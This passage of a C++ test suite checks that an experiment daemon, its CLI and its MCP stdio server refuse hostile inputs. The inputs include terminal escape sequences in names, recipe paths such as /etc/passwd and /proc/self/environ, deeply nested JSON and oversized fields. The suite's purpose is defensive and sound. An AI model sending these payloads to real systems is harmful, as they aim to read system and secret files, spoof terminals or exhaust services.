        sub.set_trainer("odd-ok");
        AddCandidate(&sub, "matrix_lr", "0.021", "cand" + kTerminalEscapes);
        grpc::ClientContext sctx;
        Deadline(&sctx, kCallSeconds);
        xv::v1::SubmitResponse resp;
        grpc::Status ss = experiments()->Submit(&sctx, sub, &resp);
        if (s.ok() || ss.ok()) {
          // Stored: every listing must escape it.
          for (int64_t id : resp.experiment_ids()) {
            xv::v1::Experiment e;
            std::string error;
            WaitTerminal(id, 30, &e, &error);
          }
          ExpectCleanCli(f, {"campaign", "list"}, false);
          ExpectCleanCli(f, {"results"}, false);
          ExpectCleanCli(f, {"campaign", "show", "t-ok"}, false);
          ExpectCleanCli(f, {"watch", "--since", "0", "--until-idle"}, false);
        } else {
          f->ExpectRefusal("CreateCampaign", s, StatusCode::INVALID_ARGUMENT, "name");
          f->ExpectRefusal("Submit", ss, StatusCode::INVALID_ARGUMENT, "candidates[0].name");
        }
      },
      StoreCheck::kConsistent);
  RunRow(
      "a worker named with ESC, BEL: refused, or never printed raw by xvctl workers / status",
      [&](RowFindings* f) {
        WorkerSessionClient session(channel(), 30);
        if (session.Register(WorkerSessionClient::MakeRegister("evil" + kTerminalEscapes, {"none"}),
                             10)) {
          ExpectCleanCli(f, {"workers"}, false);
          ExpectCleanCli(f, {"status"}, false);
          session.Close(5);
        } else {
          f->ExpectRefusal("the session", session.WaitForEnd(10), StatusCode::INVALID_ARGUMENT,
                           "register.worker_name");
          ExpectCleanCli(f, {"workers"}, false);
        }
      },
      StoreCheck::kConsistent);
  worker_.Stop();
}

// ---- MCP rows (`xvctl mcp` over stdio) ----------------------------------------------------------

class McpTest : public HostileFixture {
 protected:
  void StartMcp() {
    mcp_ = std::make_unique<McpChild>(
        sb_.XvctlArgv({"mcp"}),
        std::vector<std::pair<std::string, std::string>>{{"XV_HOSTILE_SECRET", kSecret}},
        sb_.Path("mcp.log"));
    ASSERT_TRUE(mcp_->started());
    json resp;
    std::string raw;
    bool hung = false;
    ASSERT_TRUE(mcp_->Request({{"jsonrpc", "2.0"},
                               {"id", 1},
                               {"method", "initialize"},
                               {"params",
                                {{"protocolVersion", "2025-06-18"},
                                 {"capabilities", json::object()},
                                 {"clientInfo", {{"name", "hostile"}, {"version", "0"}}}}}},
                              20, &resp, &raw, &hung))
        << "initialize" << Logs({"mcp.log"});
    mcp_->SendLine(R"({"jsonrpc":"2.0","method":"notifications/initialized"})");
  }

  // Sends a tools/call line and returns its reply (or notes the hang / EOF in *f).
  bool ToolCall(RowFindings* f, const std::string& tool, const std::string& arguments_text,
                json* reply, std::string* raw) {
    const int id = ++next_id_;
    const std::string line = R"({"jsonrpc":"2.0","id":)" + std::to_string(id) +
                             R"(,"method":"tools/call","params":{"name":")" + tool +
                             R"(","arguments":)" + arguments_text + "}}";
    bool hung = false;
    if (!mcp_->SendLine(line)) {
      f->Wrong("xvctl mcp stopped reading its input");
      return false;
    }
    if (!mcp_->WaitReply(id, 20, reply, raw, &hung)) {
      if (hung) {
        f->Hang("no reply to tools/call " + tool + " within 20 s");
      } else {
        f->Wrong("xvctl mcp closed its output");
      }
      return false;
    }
    return true;
  }

  static constexpr const char* kSecret = "s3cr3t-token-do-not-echo";
  std::unique_ptr<McpChild> mcp_;
  int next_id_ = 100;
};

TEST_F(McpTest, McpRows) {
  group_ = "mcp";
  logs_.push_back("mcp.log");
  StartDaemon({"--log-level", "warn"});
  StartMcp();
  WatchProcess(
      "xvctl mcp", [this] { return mcp_ && mcp_->Alive(); }, [this] { StartMcp(); });
  // A sparse 1 GiB file: a size cap must refuse it without reading it.
  const std::string huge_file = sb_.Path("huge.yaml");
  {
    int fd = ::open(huge_file.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
    ASSERT_GE(fd, 0);
    ASSERT_EQ(::ftruncate(fd, 1LL << 30), 0);
    ::close(fd);
  }
  const std::string recipe_path = e2e::SourcePath("recipes/cpu-tiny.yaml");
  const std::string deep = NestedJsonArray(100000);
  const std::string one_mib(1 << 20, 'n');

  struct McpRow {
    std::string name;
    std::string tool;
    std::string arguments;  // JSON text
    std::string argument;   // the reply must name it
    std::vector<std::string> forbidden;
  };
  const std::vector<McpRow> rows = {
      {"campaign_create recipe_path /etc/passwd",
       "campaign_create",
       R"({"name":"m1","recipe_path":"/etc/passwd"})",
       "recipe_path",
       {"root:", "/bin/"}},
      {"campaign_create recipe_path /dev/zero",
       "campaign_create",
       R"({"name":"m2","recipe_path":"/dev/zero"})",
       "recipe_path",
       {}},
      {"campaign_create recipe_path /proc/self/environ",
       "campaign_create",
       R"({"name":"m3","recipe_path":"/proc/self/environ"})",
       "recipe_path",
       {kSecret}},
      {"campaign_create recipe_path a directory",
       "campaign_create",
       R"({"name":"m4","recipe_path":"/etc"})",
       "recipe_path",
       {}},
      {"campaign_create recipe_path a 1 GiB file",
       "campaign_create",
       R"({"name":"m5","recipe_path":")" + huge_file + "\"}",
       "recipe_path",
       {}},
      {"campaign_create policy nested 100,000 deep",
       "campaign_create",
       R"({"name":"m6","recipe_path":")" + recipe_path + R"(","policy":)" + deep + "}",
       "policy",
       {"[[[[[[[["}},
      {"results campaign nested 100,000 deep",
       "results",
       R"({"campaign":)" + deep + "}",
       "campaign",
       {"[[[[[[[["}},
      {"campaign_create name of 1 MiB",
       "campaign_create",
       R"({"name":")" + one_mib + R"(","recipe_path":")" + recipe_path + "\"}",
       "name",
       {std::string(4096, 'n')}},
      {"campaign_create name holding ESC, BEL",
       "campaign_create",
       R"({"name":"m\u001b]0;pwned\u0007","recipe_path":")" + recipe_path + "\"}",
       "name",
       {}},
      {"submit a knob name of 1 MiB",
       "submit",
       R"({"campaign":"none","recipe_path":")" + recipe_path + R"(","candidates":[{")" + one_mib +
           R"(":1}]})",
       "candidates",
       {std::string(4096, 'n')}},
      {"wait with 100,000 experiment ids",
       "wait",
       R"({"experiment_ids":[)" +
           [] {
             std::string ids;
             for (int i = 1; i <= 100000; ++i) ids += (i > 1 ? "," : "") + std::to_string(i);
             return ids;
           }() +
           R"(],"timeout_s":1})",
       "experiment_ids",
       {}},
  };
  for (const McpRow& row : rows) {
    RunRow(row.name, [&](RowFindings* f) {
      json reply;
      std::string raw;
      if (!ToolCall(f, row.tool, row.arguments, &reply, &raw)) return;
      std::string text;
      bool is_error = false;
      if (reply.contains("error")) {
        is_error = true;
        text = reply["error"].value("message", "") + " " + reply["error"].dump();
      } else if (reply.contains("result")) {
        const json& r = reply["result"];
        is_error = r.value("isError", false);
        if (r.contains("content") && r["content"].is_array() && !r["content"].empty()) {
          text = r["content"][0].value("text", "");
        }
      }
      if (!is_error) f->Wrong("answered without an error: " + raw.substr(0, 200));
      if (text.find(row.argument) == std::string::npos) {
        f->Wrong("the error does not name " + row.argument + ": '" + text.substr(0, 200) + "'");
      }
      for (const std::string& bad : row.forbidden) {
        if (raw.find(bad) != std::string::npos) {
          f->Wrong("the reply holds '" + bad.substr(0, 20) + "' (the input or a file echoed)");
        }
      }
      if (raw.size() > 64 * 1024) f->Wrong("the reply is " + std::to_string(raw.size()) + " bytes");
      // Still answering.
      json pong;
      std::string praw;
      bool hung = false;
      if (!mcp_->Request({{"jsonrpc", "2.0"}, {"id", "p"}, {"method", "ping"}}, 10, &pong, &praw,
                         &hung)) {
        if (hung) {
          f->Hang("no answer to a ping after the row");
        } else {
          f->Wrong("xvctl mcp closed its output after the row");
        }
      }
    });
  }
  mcp_.reset();
}

// ---- The harness judges a real crash and a real hang
// ---------------------------------------------

// Rows made to end each way, judged into a ledger of their own: a request refused as asked, a
// request stored (accepted), xvd killed by SIGSEGV during a row (crash) and xvd stopped by
// SIGSTOP (hang: the row's RPC and the Status probe pass their deadlines). After the crash and the
// hang the judge restarts xvd, and the next row is served again.
TEST_F(HostileInputsTest, HarnessSelfCheckCrashAndHang) {
  group_ = "self-check";
  HostileLedger scratch;
  ledger_ = &scratch;
  fail_unless_refused_ = false;
  StartDaemon({"--log-level", "warn"});
  auto submit_replicates = [&](int replicates, RowFindings* f) {
    xv::v1::SubmitRequest req = BaseSubmit(base_recipe(), "self");
    req.set_replicates(replicates);
    grpc::ClientContext ctx;
    Deadline(&ctx, 3.0);
    xv::v1::SubmitResponse resp;
    f->ExpectRefusal("submit", experiments()->Submit(&ctx, req, &resp),
                     StatusCode::INVALID_ARGUMENT, "replicates");
  };
  EXPECT_EQ(RunRow("replicates -1 (refused)", [&](RowFindings* f) { submit_replicates(-1, f); }),
            RowOutcome::kRefused);
  EXPECT_EQ(RunRow("replicates 1 (stored)", [&](RowFindings* f) { submit_replicates(1, f); }),
            RowOutcome::kAccepted);
  const pid_t first = xvd_.pid();
  EXPECT_EQ(RunRow("xvd gets SIGSEGV",
                   [&](RowFindings* f) {
                     ::kill(xvd_.pid(), SIGSEGV);
                     std::this_thread::sleep_for(std::chrono::milliseconds(300));
                     submit_replicates(-1, f);
                   }),
            RowOutcome::kCrash);
  EXPECT_NE(xvd_.pid(), first) << "xvd was not restarted after the crash";
  EXPECT_EQ(RunRow("served after the crash", [&](RowFindings* f) { submit_replicates(-1, f); }),
            RowOutcome::kRefused);
  const pid_t second = xvd_.pid();
  EXPECT_EQ(RunRow("xvd gets SIGSTOP",
                   [&](RowFindings* f) {
                     ::kill(xvd_.pid(), SIGSTOP);
                     submit_replicates(-1, f);
                   }),
            RowOutcome::kHang);
  EXPECT_NE(xvd_.pid(), second) << "xvd was not restarted after the hang";
  EXPECT_EQ(RunRow("served after the hang", [&](RowFindings* f) { submit_replicates(-1, f); }),
            RowOutcome::kRefused);
  EXPECT_EQ(scratch.SummaryLine(),
            "hostile inputs: 6 tried, 3 refused, 1 accepted, 1 crashes, 1 hangs");
  std::printf("[hostile] self-check: %s\n", scratch.SummaryLine().c_str());
}

// The suite's summary line, printed once every test has run; accepted, crashes and hangs must
// all be 0.
class HostileSummary : public ::testing::Environment {
 public:
  void TearDown() override {
    const HostileLedger& ledger = HostileLedger::Global();
    std::printf("%s\n", ledger.SummaryLine().c_str());
    for (const std::string& line : ledger.NotRefused())
      std::printf("  not refused: %s\n", line.c_str());
    std::fflush(stdout);
    EXPECT_EQ(ledger.count(RowOutcome::kAccepted), 0);
    EXPECT_EQ(ledger.count(RowOutcome::kCrash), 0);
    EXPECT_EQ(ledger.count(RowOutcome::kHang), 0);
  }
};

[[maybe_unused]] ::testing::Environment* const kSummary =
    ::testing::AddGlobalTestEnvironment(new HostileSummary);

}  // namespace
}  // namespace xv::hostile
